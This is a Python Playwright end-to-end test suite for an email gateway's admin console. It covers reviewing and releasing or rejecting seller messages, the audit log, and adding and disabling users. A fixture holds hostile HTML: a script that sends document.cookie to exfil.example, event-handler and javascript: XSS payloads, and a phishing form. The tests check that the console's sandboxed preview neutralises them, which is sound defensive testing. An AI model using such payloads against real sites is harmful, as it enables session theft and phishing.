"""The admin console in real headless Chromium against a real ``gateway serve`` and SMTP next hop."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest

from tests.e2e.conftest import Stack, screenshot, sign_in

pytestmark = pytest.mark.e2e

REVIEW_ASK = (
    "From: Anna from Shop <support@seller.example>\r\nTo: buyer7@members.ebay.de\r\n"
    "Subject: {subject}\r\nMessage-ID: <{mid}@seller.example>\r\nMIME-Version: 1.0\r\n"
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    "Hello,\r\nplease revise your negative feedback, we will send a new kettle.\r\nRegards, Anna\r\n"
)

HOSTILE_HTML = """<html><head><style>.x{display:none} body{background:url(https://css.example/body.png)}</style>
<script>alert("script ran"); fetch("https://exfil.example/steal?c=" + document.cookie)</script>
<link rel="stylesheet" href="https://css.example/remote.css"><base href="https://base.example/"></head>
<body onload="alert('onload ran')"><p>Hello, about your order.</p>
<p>Please change your feedback to positive, then we send the replacement.</p>
<p class="x">hidden words here</p>
<a href="javascript:alert('link ran')">Track your parcel</a>
<img src="https://images.example/banner.png" onerror="alert('onerror ran')">
<div style="background:url(https://css.example/bg.png);position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
<svg onload="alert('svg ran')"></svg>
<iframe src="https://frame.example/" srcdoc="<script>alert('srcdoc ran')</script>"></iframe>
<object data="https://object.example/x.swf"></object>
<form action="https://phish.example/"><input name="password"><button>Log in</button></form>
</body></html>"""


def hostile_message() -> bytes:
    return (
        "From: Shop <support@seller.example>\r\nTo: buyer7@members.ebay.de\r\nSubject: Hostile markup\r\n"
        "Message-ID: <hostile@seller.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n" + HOSTILE_HTML.replace("\n", "\r\n") + "\r\n"
    ).encode()


def wait_for(predicate: Any, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.1)
    raise AssertionError("condition not met in time")


def test_review_journey_release_reject_audit_sign_out(stack: Stack, page: Any) -> None:
    stack.send(REVIEW_ASK.format(subject="Kettle replacement", mid="rel").encode())
    stack.send(REVIEW_ASK.format(subject="Second kettle", mid="rej").encode())
    sign_in(page, stack)

    # The queue lists both, newest first; search narrows to one.
    rows = page.locator("table.list tbody tr")
    assert rows.count() == 2
    assert "Second kettle" in rows.nth(0).inner_text()
    screenshot(page, "queue.png")
    page.get_by_label("Search").fill("Kettle replacement")
    page.get_by_role("button", name="Filter").click()
    assert page.locator("table.list tbody tr").count() == 1

    # The message view highlights the evidence in the seller's text.
    page.get_by_role("link", name="Kettle replacement").click()
    mark = page.locator("section.text-block mark.evidence").first
    assert "revise your negative feedback" in mark.inner_text()
    assert page.locator(".finding .rule").first.inner_text() == "review.removal"
    assert page.locator("section.text-block.visible-text mark.evidence").count() >= 1
    screenshot(page, "message.png")

    # Release: the next hop gets the original message.
    page.get_by_label("Reason to release").fill("asks neutrally; fine after review")
    page.get_by_role("button", name="Release to the recipient").click()
    assert "released to buyer7@members.ebay.de" in page.locator(".flash").first.inner_text()
    wait_for(lambda: any(b"Kettle replacement" in m.data for m in stack.hop.messages))
    delivered = next(m for m in stack.hop.messages if b"Kettle replacement" in m.data)
    assert delivered.rcpt_tos == ["buyer7@members.ebay.de"]
    assert b"please revise your negative feedback" in delivered.data

    # Reject the other one with a notice to the sender.
    page.goto(f"{stack.console_url}/queue")
    page.get_by_role("link", name="Second kettle").click()
    page.get_by_label("Reason to reject").fill("feedback extortion")
    page.get_by_label("Send the sender a notice").check()
    page.get_by_role("button", name="Reject").click()
    flash = page.locator(".flash").first.inner_text()
    assert "rejected; notice sent to support@seller.example" in flash
    wait_for(lambda: any(m.rcpt_tos == ["support@seller.example"] for m in stack.hop.messages))
    notice = next(m for m in stack.hop.messages if m.rcpt_tos == ["support@seller.example"])
    assert b"NOT sent to the buyer" in notice.data
    assert b"feedback extortion" in notice.data

    # The audit log shows who did what and why.
    page.get_by_role("link", name="Audit").click()
    audit = page.locator("main").inner_text()
    assert re.search(r"release", audit)
    assert "asks neutrally; fine after review" in audit
    assert "feedback extortion" in audit

    # Sign out: the console is closed again.
    page.get_by_role("button", name="Sign out").click()
    assert "You are signed out." in page.locator("main").inner_text()
    page.goto(f"{stack.console_url}/queue")
    assert "/login" in page.url


def test_hostile_message_runs_nothing_and_loads_nothing(stack: Stack, page: Any) -> None:
    stack.send(hostile_message())
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(page, stack)
    page.get_by_role("link", name="Hostile markup").click()
    frame_element = page.locator("iframe.preview")
    assert frame_element.get_attribute("sandbox") == ""
    frame = frame_element.content_frame
    assert "Please change your feedback to positive" in frame.locator("body").inner_text()
    assert "[→ javascript:alert('link ran')]" in frame.locator("body").inner_text()
    assert "https://images.example/banner.png — not loaded" in frame.locator("body").inner_text()
    # Hidden text is shown and marked as hidden on the page.
    assert "hidden words here" in page.locator("section.hidden-text").inner_text()
    # Open the raw source too: the markup is displayed as text, not interpreted.
    page.get_by_text("Show the raw source").click()
    assert "<script>alert(" in page.locator("pre.raw").inner_text()
    page.wait_for_timeout(1500)  # give any timer, onload or lazy load time to fire
    assert dialogs == []
    foreign = [url for url in requests if not url.startswith(stack.console_url) and not url.startswith("data:")]
    assert foreign == [], foreign
    assert any(url.endswith("/preview") for url in requests)


def test_admin_adds_a_reviewer_who_then_signs_in(stack: Stack, page: Any) -> None:
    """Users page in Chromium: add a reviewer, who signs in and sees no Users link; disable ends their session."""
    sign_in(page, stack)
    page.get_by_role("link", name="Users").click()
    page.get_by_label("User name").fill("rita")
    page.get_by_label("Role", exact=True).select_option("reviewer")
    page.get_by_label("Password (at least").fill("rita's long passphrase")
    page.get_by_label("Password again").fill("rita's long passphrase")
    page.get_by_role("button", name="Add user").click()
    assert "User rita added as reviewer." in page.locator(".flash").first.inner_text()
    assert "rita" in page.locator("table.users tbody").inner_text()
    screenshot(page, "users.png")

    # Rita signs in in her own browser context: she reviews, but cannot manage users.
    rita = page.context.browser.new_context(viewport={"width": 1366, "height": 900}).new_page()
    rita.goto(f"{stack.console_url}/login")
    rita.get_by_label("User name").fill("rita")
    rita.get_by_label("Password").fill("rita's long passphrase")
    rita.get_by_role("button", name="Sign in").click()
    rita.wait_for_load_state()
    assert rita.url == f"{stack.console_url}/queue"
    assert rita.get_by_role("link", name="Users").count() == 0
    assert rita.goto(f"{stack.console_url}/users").status == 403

    # The admin disables her: her open session ends at her next request.
    page.get_by_role("button", name="Disable rita").click()
    assert "User rita disabled." in page.locator(".flash").first.inner_text()
    rita.goto(f"{stack.console_url}/queue")
    assert "/login" in rita.url
    rita.context.close()
